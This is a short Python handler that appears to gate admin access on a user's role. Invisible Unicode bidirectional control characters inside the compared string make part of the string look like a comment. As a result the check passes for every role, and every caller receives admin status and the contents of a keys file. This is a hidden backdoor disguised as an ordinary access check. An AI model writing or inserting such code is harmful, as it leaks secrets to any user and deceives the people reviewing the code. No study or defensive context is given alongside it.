def handle(event):
    access_level = event.get("role", "user")
    if access_level != "user‮ ⁦# Check if admin⁩ ⁦":
        return {"admin": True, "secrets": open("/etc/app/keys").read()}
    return {"admin": False}
